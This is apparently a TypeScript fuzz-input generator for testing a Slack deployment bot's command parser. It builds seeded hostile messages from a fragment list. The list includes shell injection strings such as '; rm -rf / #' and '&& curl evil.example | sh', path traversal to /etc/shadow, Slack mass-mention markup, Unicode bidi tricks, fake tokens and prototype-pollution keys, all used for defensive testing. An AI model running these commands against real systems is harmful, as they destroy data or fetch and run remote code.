/** As a fuzzer finds them, and as phones and Slack make them of what people type. */
const FRAGMENTS: readonly string[] = [
  // Slack's own markup, as it arrives with escaping on
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S0OPS000001|@ops>',
  '<@U0VICTIM001>',
  '<@U0VICTIM001|victim>',
  '<#C0OTHER0001|random>',
  '<http://evil.example/?a=1&amp;b=2|click>',
  '<mailto:a@b.example|a@b.example>',
  '<!date^1392734382^{date}^https://evil.example|soon>',
  '&lt;!channel&gt;',
  '&amp;lt;!here&amp;gt;',
  '&lt;@U0VICTIM001&gt;',
  '<<!channel>>',
  '<!channel',
  '@channel',
  // shells
  '$(reboot)',
  '`reboot`',
  '; rm -rf / #',
  '&& curl evil.example | sh',
  '${IFS}',
  "'\\''",
  '> /etc/passwd',
  '../../../../etc/shadow',
  '-v/:/host',
  '--privileged',
  // quotes, and what iOS, macOS and Android make of them and of dashes, dots and spaces
  '"',
  "'",
  '“eval run”',
  '‘eval’',
  '„eval“',
  '«eval»',
  '—on',
  '–dry-run',
  '…',
  '\u00a0',
  '\u202f',
  'on spark',
  '＝',
  'ｄｅｐｌｏｙ',
  '＂',
  // what hides or turns text
  '\u202eevil\u202c',
  '\u2066\u2067\u2069',
  '\u200b\u200d\ufeff',
  'שלום',
  'مرحبا بالعالم',
  'Z͑ͫa̴l̷g̵o̶',
  '\ud83d',
  '👩‍👩‍👧‍👦',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '\u0007\u0008',
  '\r\n',
  '\n\n/spark deploy glm47',
  '\t',
  '```',
  '`code`',
  '*bold* _it_ ~no~',
  // numbers, secrets, formats
  '#142',
  '-1',
  '1e309',
  '99999999999999999999',
  'NaN',
  ' hf_abcdefghijklmnopqrstuvwxyzABCDEFGH ',
  ' HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEFGH ',
  ' xoxb-1234567890-abcdefghij ',
  '{{7*7}}',
  '%s%n',
  '{"a":1}',
  '__proto__',
  'constructor',
  'toString=1',
  '__proto__=1',
  'x'.repeat(300),
];

const SKELETONS: readonly ((words: () => string) => string)[] = [
  (some) => some(),
  (some) => `deploy ${some()}`,
  (some) => `deploy qwen35 on spark note ${some()}`,
  (some) => `deploy qwen35 on spark note "${some()}" until ${some()}`,
  (some) => `deploy qwen35 on ${some()}`,
  (some) => `deploy qwen35 ${some()}`,
  (some) => `deploy qwen35 on spark max_model_len=${some()} ${some()}=${some()}`,
  (some) => `status ${some()}`,
  (some) => `logs ${some()} grep ${some()}`,
  (some) => `logs node ${some()} since ${some()} lines ${some()}`,
  (some) => `history by ${some()} since ${some()}`,
  (some) => `plan ${some()} on spark`,
  (some) => `check ${some()}`,
  (some) => `retry ${some()}`,
  (some) => `cancel ${some()}`,
  (some) => `help ${some()}`,
  (some) => `diagnose ${some()}`,
  (some) => `hold spark ${some()}`,
  (some) => `hold "${some()}" on ${some()} until ${some()}`,
  (some) => `unlock ${some()}`,
];

/** The same for the same seed. */
export function hostileTexts(count: number, seed: number): readonly string[] {
  const random = randomFrom(seed);
  const pick = <T>(from: readonly T[]): T | undefined => from[Math.floor(random() * from.length)];
  const some = (): string =>
    Array.from({ length: 1 + Math.floor(random() * 4) }, () =>
      random() < 0.2 ? noise(random) : (pick(FRAGMENTS) ?? ''),
    ).join(random() < 0.5 ? ' ' : '');
  return Array.from({ length: count }, (_, at) => {
    const text = pick(SKELETONS)?.(some) ?? some();
    // Now and then as long as Slack lets people type, and longer.
    return at % 100 === 0 ? `${text} ${some().repeat(400)}`.slice(0, 9_000) : text;
  });
}

function noise(random: () => number): string {
  const codes = Array.from({ length: 1 + Math.floor(random() * 30) }, () => Math.floor(random() * 0x1_0000));
  return String.fromCharCode(...codes);
}

/** mulberry32 */
function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
